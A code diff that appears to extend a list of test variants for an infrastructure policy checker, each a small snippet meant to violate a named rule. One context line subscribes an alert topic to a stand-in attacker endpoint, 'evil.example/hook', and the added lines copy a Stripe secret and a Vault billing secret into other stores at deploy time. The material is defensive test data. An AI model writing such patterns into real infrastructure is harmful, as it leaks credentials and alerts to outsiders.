@@ -409,3 +409,13 @@ VARIANTS = VARIANTS + (
     v("alert-topic-subscribed-by-an-outside-endpoint", "closed-world",
       '_aws.sns.TopicSubscription("x", topic=_n.alarm_topic_arn(_S), protocol="https", endpoint="https://evil.example/hook")'),
 )
+
+VARIANTS = VARIANTS + (
+    # ---- a value read by an invoke (data source) at deploy time, written into another secret ----
+    v("invoke-copies-another-agents-secret-value", "no-literal-secret-values",
+      '_src = _aws.secretsmanager.get_secret_version_output(secret_id=_STRIPE_SECRET.arn)\n'
+      '_aws.secretsmanager.SecretVersion("x", secret_id=_n.secret_name(_S, "crm", "salesforce"), secret_string=_src.secret_string)'),
+    v("invoke-copies-a-vault-secret-into-ssm", "no-literal-secret-values",
+      '_src = _vault.kv.get_secret_v2_output(mount="kv", name="dev/billing/stripe")\n'
+      '_aws.ssm.Parameter("x", name="/copy", type="SecureString", value=_src.data_json, tags=_TAGS)'),
+)
